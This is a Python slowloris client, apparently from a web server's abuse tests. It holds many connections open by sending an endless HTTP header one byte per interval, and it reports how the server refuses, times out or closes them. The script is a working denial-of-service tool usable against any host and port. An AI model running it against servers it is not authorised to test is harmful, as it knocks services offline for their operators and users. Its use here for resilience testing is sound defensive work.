#!/usr/bin/env python3
"""A slowloris client (the kernel's TCP as the peer), for the abuse tests.

usage: slowloris.py HOST PORT COUNT INTERVAL_S LIMIT_S

Opens COUNT connections to HOST:PORT (non-blocking, a few hundred at a time), and on each sends an HTTP
request header one byte every INTERVAL_S seconds (it never ends: the header goes on with one long field),
until the server closes the connection or LIMIT_S seconds have passed since the start. Reads whatever the
server answers. Prints one JSON line:
{"connected": n, "failed": n, "refused": n, "closed": n, "open": n, "status408": n, "otherStatus": n,
 "closedAfter": [seconds from the connection's first byte to its close, for the connections closed after
 their first byte was accepted], "maxOpen": n, "seconds": s}
where `refused` counts connections reset or closed before the server read any byte (a bounded pool
turning them away), `open` those still open at LIMIT_S.
"""
import errno
import json
import resource
import select
import socket
import sys
import time

host, port, count, interval, limit = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4]), float(
    sys.argv[5])
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, max(soft, count + 64)), hard))
family = socket.AF_INET6 if ":" in host else socket.AF_INET
HEADER = b"GET / HTTP/1.1\r\nHost: slowloris\r\nX-Slow: " + b"a" * 100000

started = time.monotonic()
poller = select.epoll()
conns = {}  # fd -> state dict
opened = 0
connecting = 0
failed = refused = status408 = other = 0
closed_after = []
max_open = 0


def close(fd, state, now):
    global refused
    poller.unregister(fd)
    state["sock"].close()
    del conns[fd]
    # A byte the server never acknowledged before closing counts as turned away, as does a reset on the
    # first read: the first byte went out, but the pool had refused the connection.
    if state["first"] is None or state["sent"] <= 1 and not state["answer"]:
        refused += 1
    else:
        closed_after.append(round(now - state["first"], 3))


while time.monotonic() - started < limit:
    now = time.monotonic()
    while opened < count and connecting < 256:
        s = socket.socket(family, socket.SOCK_STREAM)
        s.setblocking(False)
        try:
            s.connect((host, port))
        except BlockingIOError:
            pass
        poller.register(s.fileno(), select.EPOLLOUT | select.EPOLLERR)
        conns[s.fileno()] = {"sock": s, "connected": False, "first": None, "sent": 0, "next": 0.0,
                             "answer": b""}
        opened += 1
        connecting += 1
    for fd, ev in poller.poll(0.05):
        state = conns.get(fd)
        if state is None:
            continue
        s = state["sock"]
        if not state["connected"]:
            connecting -= 1
            error = s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
            if error != 0:
                # A reset after the handshake (the pool turned it away before we looked) is a refusal.
                if error in (errno.ECONNRESET, errno.EPIPE):
                    refused += 1
                else:
                    failed += 1
                poller.unregister(fd)
                s.close()
                del conns[fd]
                continue
            state["connected"] = True
            state["next"] = time.monotonic()
            poller.modify(fd, select.EPOLLIN | select.EPOLLRDHUP | select.EPOLLERR)
            continue
        try:
            data = s.recv(4096)
        except OSError:
            data = b""
        if data:
            state["answer"] += data
            continue
        if state["answer"].startswith(b"HTTP/1.1 408"):
            status408 += 1
        elif state["answer"]:
            other += 1
        close(fd, state, time.monotonic())
    now = time.monotonic()
    max_open = max(max_open, sum(1 for st in conns.values() if st["connected"]))
    for fd, state in list(conns.items()):
        if state["connected"] and now >= state["next"] and state["sent"] < len(HEADER):
            try:
                state["sock"].send(HEADER[state["sent"]:state["sent"] + 1])
            except OSError as e:
                if e.errno in (errno.EAGAIN,):
                    continue
                close(fd, state, now)
                continue
            if state["first"] is None:
                state["first"] = now
            state["sent"] += 1
            state["next"] = now + interval
still_open = sum(1 for st in conns.values() if st["connected"])
connected = len(closed_after) + refused + still_open
for state in conns.values():
    state["sock"].close()
print(json.dumps({
    "connected": connected, "failed": failed + sum(1 for st in conns.values() if not st["connected"]),
    "refused": refused, "closed": len(closed_after), "open": still_open, "status408": status408,
    "otherStatus": other, "closedAfter": sorted(closed_after), "maxOpen": max_open,
    "seconds": round(time.monotonic() - started, 2)}), flush=True)
